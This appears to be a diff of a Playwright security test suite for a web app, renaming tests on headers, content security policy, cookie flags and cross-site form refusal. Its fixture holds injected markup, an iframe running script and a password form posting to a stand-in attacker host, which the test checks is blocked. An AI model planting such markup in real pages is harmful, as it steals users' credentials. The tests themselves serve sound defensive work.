@@ -10,7 +10,7 @@ async function newestAttempt(sql: Sql) {
   return row
 }
 
-test('every page brings the rules that keep other sites and scripts away (D1, D2)', async ({
+test('every page has the security headers that keep other sites and scripts out (D1, D2)', async ({
   seller,
   demo,
   database,
@@ -67,10 +67,7 @@ const smuggled = `
   <iframe srcdoc="<script>top.smuggled = 'frame'</script>"></iframe>
   <form id="away" action="https://evil.example/"><input name="password"></form>`
 
-test('what somebody smuggles into a page does not run, and sends nothing away (D1)', async ({
-  page,
-  allowOnConsole,
-}) => {
+test('injected markup doesn’t run and sends no data (D1)', async ({ page, allowOnConsole }) => {
   allowOnConsole(/Content Security Policy|violates/)
   const outside: string[] = []
   await page.route('https://evil.example/**', (route) => {
@@ -98,7 +95,7 @@ test('what somebody smuggles into a page does not run, and sends nothing away (D
   expect(outside).toEqual([])
 })
 
-test('cookies are HttpOnly, SameSite and of this host alone (D3)', async ({ page, amazon, demo }) => {
+test('cookies are HttpOnly, SameSite and host-only (D3)', async ({ page, amazon, demo }) => {
   await signUp(page)
   await connect(page, await amazon.addPartner())
   const cookies = await page.context().cookies(demo.app)
@@ -124,7 +121,7 @@ const foreignHeaders: Readonly<Record<string, string>>[] = [
   {},
 ]
 
-test('a form that another site sends is refused, and changes nothing (D4)', async ({
+test('a form posted from another site is refused and changes nothing (D4)', async ({
   seller,
   connected,
   database,
@@ -155,12 +152,7 @@ test('a form that another site sends is refused, and changes nothing (D4)', asyn
   ).toMatchObject({ disconnectedAt: expect.any(Date) })
 })
 
-test('looking at an address changes nothing; a link preview begins and ends nothing (D4)', async ({
-  seller,
-  amazon,
-  database,
-  demo,
-}) => {
+test('GET requests and link previews change nothing (D4)', async ({ seller, amazon, database, demo }) => {
   const partner = await amazon.addPartner()
   const before = await newestAttempt(database)
   expect((await seller.ask(start, { method: 'HEAD' })).status).toBe(200)
